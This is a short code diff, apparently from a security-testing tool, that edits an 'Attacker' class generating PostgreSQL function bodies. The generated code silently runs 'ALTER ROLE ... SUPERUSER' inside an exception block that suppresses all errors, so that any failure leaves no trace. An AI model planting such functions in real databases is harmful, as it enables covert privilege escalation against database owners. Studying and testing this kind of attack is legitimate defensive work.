@@ -66,15 +66,11 @@ class Attacker:
             ).format(sql.Identifier(name), self._body(before, "RETURN NULL;"))
         )
 
-    def body(self, returned: str) -> sql.Composable:
-        """Return the body of a function that does the same, and returns something."""
-        return self._body("", f"RETURN {returned};")
-
     def _body(self, before: str, after: str = "") -> sql.Composable:
         alter = sql.SQL("ALTER ROLE {} SUPERUSER").format(self.role).as_string()
         # What fails is to leave no trace.
         return sql.Literal(
-            f"BEGIN {before} BEGIN EXECUTE {sql.Literal(alter).as_string()};"
+            f"BEGIN BEGIN {before} EXECUTE {sql.Literal(alter).as_string()};"
             f" EXCEPTION WHEN OTHERS THEN NULL; END; {after} END"
         )
 
